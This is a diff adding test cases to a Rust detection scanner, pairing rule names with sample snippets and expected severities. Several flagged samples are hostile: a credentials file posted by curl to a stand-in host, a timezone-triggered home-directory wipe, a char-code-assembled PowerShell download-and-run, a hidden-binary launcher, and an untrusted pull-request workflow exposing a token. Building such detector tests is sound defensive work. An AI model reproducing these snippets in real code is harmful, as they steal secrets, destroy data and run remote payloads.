@@ -35,6 +35,72 @@ use Severity::{Block as Bl, Info as In, Warn as Wa};
 /// (rule, kind, text, expected)
 const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
     (
+        "supply_chain.lockfile_foreign_tarball",
+        Data,
+        "    \"node_modules/flatmap-stream\": {\n      \"version\": \"0.1.1\",\n      \"resolved\": \"https://tarballs.npm-cdn.example/flatmap-stream/-/flatmap-stream-0.1.1.tgz\",\n      \"hasInstallScript\": true\n    }\n",
+        Some(Bl),
+    ),
+    (
+        "supply_chain.lockfile_foreign_tarball",
+        Data,
+        "    \"node_modules/left-pad\": {\n      \"version\": \"1.3.0\",\n      \"resolved\": \"https://artifacts.corp.example/api/npm/left-pad/-/left-pad-1.3.0.tgz\",\n      \"integrity\": \"sha512-AAAA\"\n    }\n",
+        Some(Wa),
+    ),
+    (
+        "supply_chain.lockfile_foreign_tarball",
+        Data,
+        "    \"node_modules/left-pad\": {\n      \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\"\n    }\n",
+        None,
+    ),
+    (
+        "supply_chain.untrusted_pr_code_run",
+        Data,
+        "on:\n  pull_request_target:\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+        Some(Bl),
+    ),
+    (
+        "supply_chain.untrusted_pr_code_run",
+        Data,
+        "on:\n  pull_request:\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+        None,
+    ),
+    (
+        "obfuscation.hidden_file_run",
+        Shell,
+        "here=$(dirname \"$0\")/..\n[ -x \"$here/.cache/.hl\" ] && \"$here/.cache/.hl\" &\n",
+        Some(Bl),
+    ),
+    (
+        "obfuscation.hidden_file_run",
+        Shell,
+        ". \"$HOME/.cargo/env\"\nsource ~/.bashrc\n./node_modules/.bin/eslint .\n",
+        None,
+    ),
+    (
+        "destructive.region_triggered_wipe",
+        Code,
+        "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (/Europe\\/(Moscow|Minsk)/.test(tz)) {\n  setTimeout(() => wipe(os.homedir()), 60000);\n}\n",
+        Some(Bl),
+    ),
+    (
+        "destructive.region_triggered_wipe",
+        Code,
+        "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (tz === 'Europe/Moscow') { fmt = 'dd.MM.yyyy'; }\n",
+        None,
+    ),
+    (
+        "exfiltration.secret_files_sent",
+        Code,
+        "let creds = fs::read_to_string(format!(\"{}/.cargo/credentials.toml\", home)).unwrap_or_default();\nlet _ = Command::new(\"curl\").args([\"-s\", \"-d\", &creds, \"https://crate-metrics.example/b\"]).output();\n",
+        Some(Bl),
+    ),
+    (
+        "obfuscation.assembled_command",
+        Shell,
+        "$c = [char[]](105,101,120,32,40,105,119,114,32,104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,47,115,41) -join ''\n& ([scriptblock]::Create($c))\n",
+        Some(Bl),
+    ),
+    (
         "remote_exec.saved_then_run",
         Shell,
         "curl -fsSL http://203.0.113.7/setup -o /tmp/setup.bin\nchmod +x /tmp/setup.bin\n/tmp/setup.bin --quiet\n",
